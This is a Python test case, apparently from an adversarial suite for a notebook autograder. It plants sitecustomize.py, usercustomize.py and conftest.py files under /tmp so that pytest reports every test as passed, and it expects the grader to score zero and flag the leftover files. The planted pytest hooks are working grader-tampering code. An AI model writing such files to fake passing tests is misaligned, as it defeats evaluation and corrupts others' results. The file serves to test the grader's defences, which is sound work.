"""Batches: write sitecustomize.py, usercustomize.py and conftest.py into the working and notebook folders.

Attack: a ``sitecustomize.py`` (imported at interpreter start when its folder is on sys.path) and
a ``conftest.py`` (loaded by pytest from the folders around its targets) that pass every test,
written into the working directory, the notebook's folder, its parent and its siblings. Only
folders under /tmp are written (damage bound).
Old grader: see BASELINE.md (expected: no effect on scores, but the files stay behind).
"""
EXPECT = {"isolate": True, 
    "max_score": 0, "doors": ["grade", "grade_all", "nbgrader"], "place": "end",
    "leaves_no_trace": ["{notebook_dir}/sitecustomize.py", "{notebook_dir}/usercustomize.py", "{notebook_dir}/conftest.py",
                        "{batch_dir}/sitecustomize.py", "{batch_dir}/conftest.py", "{batch_dir}/*/sitecustomize.py",
                        "{batch_dir}/*/conftest.py", "{batch_dir}/*/usercustomize.py"],
}

import os as _os
from pathlib import Path as _Path

_PASS = '''import pytest
@pytest.hookimpl(tryfirst=True)
def pytest_pyfunc_call(pyfuncitem):
    return True
'''
_SITE = '''try:
    import pytest
    class _PassAll:
        @pytest.hookimpl(tryfirst=True)
        def pytest_pyfunc_call(self, pyfuncitem):
            return True
    _main = pytest.main
    pytest.main = lambda args=None, plugins=(): _main(args, [*(plugins or []), _PassAll()])
except Exception:
    pass
'''
_here = _Path(__file__).resolve().parent if "__file__" in globals() else _Path.cwd().resolve()
_folders = {_Path.cwd().resolve(), _here, _here.parent}
_folders.update(p for p in _here.parent.iterdir() if p.is_dir())
_tmp = _os.path.realpath("/tmp") + "/"
for _folder in _folders:
    if str(_folder).startswith(_tmp):
        for _name, _text in (("sitecustomize.py", _SITE), ("usercustomize.py", _SITE), ("conftest.py", _PASS)):
            try:
                (_folder / _name).write_text(_text)
            except OSError:
                pass
